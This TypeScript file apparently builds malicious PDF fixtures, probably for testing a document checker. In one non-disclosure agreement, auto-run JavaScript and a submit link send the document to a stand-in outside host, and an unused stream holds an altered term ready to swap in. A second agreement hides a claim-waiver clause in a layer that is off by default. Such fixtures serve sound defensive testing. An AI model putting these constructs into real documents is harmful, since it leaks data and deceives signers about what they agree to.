import { PDFArray, PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from 'pdf-lib';

export const PLANTED_PHRASE = 'expires twenty (20) years';
export const OUTSIDE_ADDRESS = 'https://collector.example.net/submit';

async function base(text: string): Promise<PDFDocument> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.drawText(text, { x: 72, y: 760, size: 12, font });
  page.drawText('This agreement expires two (2) years after the date it is signed.', { x: 72, y: 740, size: 11, font });
  return doc;
}

/**
 * An NDA carrying what a reader should never run or keep: an open action whose JavaScript submits the
 * form to an outside address, a page action, a submit link, an embedded file, and a content stream
 * no page draws that holds a different term, ready to be swapped in later.
 */
export async function pdfWithActiveContent(): Promise<Buffer> {
  const doc = await base('Mutual non-disclosure agreement');
  const { context, catalog } = doc;
  const js = `this.submitForm({cURL: "${OUTSIDE_ADDRESS}", cSubmitAs: "PDF"});`;
  catalog.set(PDFName.of('OpenAction'), context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(js) }));
  const scripts = context.obj({
    Names: [PDFString.of('collect'), context.obj({ S: 'JavaScript', JS: PDFString.of(js) })],
  });
  const file = context.register(context.stream('secret payload', { Type: 'EmbeddedFile' }));
  const spec = context.obj({ Type: 'Filespec', F: PDFString.of('payload.txt'), EF: { F: file } });
  catalog.set(
    PDFName.of('Names'),
    context.obj({ JavaScript: scripts, EmbeddedFiles: context.obj({ Names: [PDFString.of('payload.txt'), spec] }) }),
  );
  const page = doc.getPage(0);
  page.node.set(PDFName.of('AA'), context.obj({ O: { S: 'JavaScript', JS: PDFString.of(js) } }));
  const link = context.register(
    context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [72, 700, 300, 720],
      A: { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of(OUTSIDE_ADDRESS) } },
    }),
  );
  page.node.set(PDFName.of('Annots'), context.obj([link]));
  // Drawn by no page: only a later swap of a page's /Contents would show it.
  context.register(context.stream(`BT /F1 12 Tf 72 700 Td (${PLANTED_PHRASE.replace(/[()]/g, '\\$&')}) Tj ET`));
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

/** An NDA with a paragraph in a layer turned off by default: most readers hide it, some print it. */
export async function pdfWithHiddenLayer(): Promise<Buffer> {
  const doc = await base('Mutual non-disclosure agreement');
  const { context, catalog } = doc;
  const ocg = context.register(context.obj({ Type: 'OCG', Name: PDFHexString.fromText('Hidden terms') }));
  catalog.set(PDFName.of('OCProperties'), context.obj({ OCGs: [ocg], D: { Order: [ocg], OFF: [ocg] } }));
  const page = doc.getPage(0);
  const font = page.node.Resources()!.lookup(PDFName.of('Font'));
  page.node.Resources()!.set(PDFName.of('Properties'), context.obj({ oc1: ocg }));
  const fontName = font && 'keys' in font ? String((font as unknown as { keys(): PDFName[] }).keys()[0]) : '/F1';
  const hidden = context.register(
    context.stream(`/OC /oc1 BDC BT ${fontName} 11 Tf 72 700 Td (The receiving party waives all claims.) Tj ET EMC`),
  );
  const contents = page.node.Contents();
  const list = contents instanceof PDFArray ? contents : context.obj([page.node.get(PDFName.of('Contents'))!]);
  list.push(hidden);
  page.node.set(PDFName.of('Contents'), list);
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}
